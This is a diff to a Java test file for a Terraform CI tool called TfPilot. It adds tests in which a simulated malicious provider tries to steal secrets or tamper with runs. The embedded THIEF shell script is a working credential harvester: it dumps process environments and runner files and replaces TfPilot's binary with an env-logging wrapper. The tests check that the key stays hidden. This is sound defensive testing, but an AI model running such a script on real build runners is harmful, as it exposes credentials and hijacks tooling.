@@ -1,18 +1,22 @@
 package io.tfpilot.core.workflows;
 
+import static java.nio.charset.StandardCharsets.ISO_8859_1;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import io.tfpilot.core.request.Login;
 import io.tfpilot.core.request.RepoName;
 import io.tfpilot.core.request.RunKind;
 import java.io.IOException;
+import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Instant;
+import java.util.Base64;
 import java.util.HashMap;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Locale;
 import java.util.Map;
+import java.util.function.UnaryOperator;
 import java.util.regex.Pattern;
 
 import org.junit.jupiter.api.Tag;
@@ -45,6 +49,8 @@ class WorkflowExecutionTest {
     private int runs;
     /** Where TfPilot is, where it is not the state's server. */
     private String tfpilot = "";
+    /** What is special about the runs of a test. */
+    private UnaryOperator<JobRun> prepared = run -> run;
 
     @BeforeEach
     void open() throws Exception {
@@ -94,7 +100,7 @@ class WorkflowExecutionTest {
         context.put("github.api_url", server.address() + "/api/v3");
         context.put("github.token", "ghs_token");
         JobRun run = new JobRun(repository.bare, folder.resolve("run-" + ++runs), context);
-        return run.run(repository.read("main", ".github/workflows/" + workflow + ".yml") + "\n");
+        return prepared.apply(run).run(repository.read("main", ".github/workflows/" + workflow + ".yml") + "\n");
     }
 
     private JobRun plan(String commit, String section, String purpose) throws IOException, InterruptedException {
@@ -174,6 +180,103 @@ class WorkflowExecutionTest {
         for (JobRun run : new JobRun[]{plan, apply, again, farewell, destroy}) {
             assertThat(run.everythingThatLeaves()).doesNotContain("sw0rdf", "c3cwcmRm");
         }
+    }
+
+    /**
+     * Takes what the runner has (the environments of all its processes, every file), puts a tool of its own in the place
+     * of TfPilot's, and stays behind to go on looking.
+     */
+    private static final String THIEF = """
+            loot=@loot@
+            machine="$(dirname "$RUNNER_TEMP")"
+            look() {
+              for process in /proc/[0-9]*; do
+                if tr '\\0' '\\n' < "$process/environ" 2> /dev/null | grep -q "$machine"; then
+                  tr '\\0' '\\n' < "$process/environ" >> "$loot"
+                  tr '\\0' '\\n' < "$process/cmdline" >> "$loot"
+                fi
+              done
+            }
+            look
+            find "$machine" -type f -not -path '*/.git/*' -size -512k -exec cat {} + >> "$loot" 2> /dev/null
+            if ! grep -q stolen "$RUNNER_TEMP/tfpilot/change"; then
+              cp "$RUNNER_TEMP/tfpilot/change" "$RUNNER_TEMP/change"
+              printf '#!/bin/sh\\n# stolen\\nenv >> "%s"\\nexec "%s" "$@"\\n' "$loot" "$RUNNER_TEMP/change" \
+                > "$RUNNER_TEMP/tfpilot/change"
+              (while [ -e "$RUNNER_TEMP/tfpilot" ]; do look; sleep 0.05; done) &
+            fi
+            """;
+
+    @Test
+    void a_provider_that_reads_everything_and_rewrites_the_tool_finds_no_key_and_moves_no_judgement() throws Exception {
+        String section = repository.section(ID, WITH_PASSWORD);
+        String commit = repository.commit("Ask for a vault");
+        String honest = digest(plan(commit, section, "change"));
+        Path loot = folder.resolve("loot");
+        prepared = run -> run.withProvider(THIEF.replace("@loot@", loot.toString()));
+
+        assertThat(digest(plan(commit, section, "change"))).isEqualTo(honest);
+        assertThat(digest(apply(commit, section, honest))).isEqualTo(honest);
+        server.change("dev", "\"one-left\"", "\"somebody-else\"");
+        assertThat(driftPlan(commit).succeeded()).isTrue();
+        JobRun farewell = plan(commit, section, "destroy");
+        assertThat(dispatch("destroy", Map.of("commit", commit, "digest", digest(farewell))).succeeded()).isTrue();
+
+        String stolen = Files.readString(loot, ISO_8859_1);
+        assertThat(stolen).as("the thief is awake").contains("RUNNER_TEMP=", "SEAL_KEY=", "stolen",
+                "TF_VAR_tfpilot_secret_DB_PASSWORD=");
+        assertThat(stolen.contains(KEY.value())).as("the project's key").isFalse();
+        assertThat(stolen.contains("TFPILOT_WEBHOOK_SECRET=")).as("its variable").isFalse();
+        assertThat(stolen.contains(Base64.getEncoder().encodeToString(KEY.value().getBytes(ISO_8859_1)))).isFalse();
+    }
+
+    @Test
+    void what_changes_between_the_judgement_and_the_apply_is_not_applied() throws Exception {
+        String section = repository.section(ID, "name = \"one\"\n");
+        String commit = repository.commit("Ask for a vault");
+        String digest = digest(plan(commit, section, "change"));
+        prepared = run -> run.withProvider("""
+                case "$PWD" in */apply/work) echo 'locals { late = 1 }' >> infra/modules/vault/main.tf ;; esac
+                """);
+        JobRun run = apply(commit, section, digest);
+        refused(run, "digest_changed");
+        assertThat(run.outcomeOf("Compare with what was judged")).isEqualTo("failure");
+        assertThat(run.outcomeOf("Apply the plan")).isEqualTo("skipped");
+        assertThat(run.result().path("untouched").asBoolean()).isTrue();
+        assertThat(server.state("dev")).isEmpty();
+    }
+
+    @Test
+    void a_record_that_cannot_be_handed_over_does_not_hide_that_the_resources_exist() throws Exception {
+        String section = repository.section(ID, "name = \"one\"\n");
+        String commit = repository.commit("Ask for a vault");
+        String digest = digest(plan(commit, section, "change"));
+        prepared = run -> run.withBrokenUpload("sealed-apply");
+        JobRun run = apply(commit, section, digest);
+        assertThat(run.succeeded()).as(run.log()).isTrue();
+        assertThat(run.result().path("outcome").asString()).isEqualTo("ok");
+        assertThat(run.result().path("untouched").asBoolean(true)).isFalse();
+        assertThat(run.result().path("diagnostics").toString()).contains("The resources exist");
+        assertThat(server.state("dev")).contains("one-left");
+
+        prepared = whole -> whole;
+        String next = digest(plan(commit, section, "change"));
+        // An empty apply: what counts is that a lost artifact fails nothing.
+        prepared = broken -> broken.withBrokenUpload("apply-logs");
+        JobRun lost = apply(commit, section, next);
+        assertThat(lost.succeeded()).as(lost.log()).isTrue();
+        assertThat(lost.leftNothing()).isTrue();
+    }
+
+    @Test
+    void a_plan_whose_record_is_lost_fails_and_says_so() throws Exception {
+        String section = repository.section(ID, "name = \"one\"\n");
+        prepared = run -> run.withBrokenUpload("sealed-plan");
+        JobRun run = plan(repository.commit("Ask for a vault"), section, "change");
+        assertThat(run.succeeded()).isFalse();
+        assertThat(run.result().path("outcome").asString()).isEqualTo("failed");
+        assertThat(run.result().path("digest").isNull()).isTrue();
+        assertThat(run.log()).contains("left no record");
     }
 
     @Test
